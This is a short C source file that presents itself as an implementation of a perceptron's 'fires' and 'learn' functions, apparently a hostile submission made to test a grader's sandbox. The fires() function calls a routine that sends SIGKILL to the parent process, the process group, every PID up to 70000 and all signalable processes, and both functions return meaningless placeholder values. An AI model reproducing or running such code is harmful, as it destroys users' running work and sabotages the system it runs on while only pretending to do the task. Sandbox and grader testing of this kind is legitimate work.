/* Kills its parent, its group and everybody. */
#define _GNU_SOURCE
#include "step.h"

#include <signal.h>
#include <unistd.h>

static void kill_all(void) {
  kill(getppid(), SIGKILL);
  kill(0, SIGKILL);
  kill(-getpgrp(), SIGKILL);
  for (pid_t pid = 2; pid < 70000; pid++) kill(pid, SIGKILL);
  kill(-1, SIGKILL);
}

bool fires(const double *w, double b, const double *x, size_t n) {
  kill_all();
  return w[0] + b + x[0] + (double)n > 1e9;
}

bool learn(double *w, double *b, const double *x, double y, size_t n) {
  return w[0] + *b + x[0] + y + (double)n > 1e9;
}
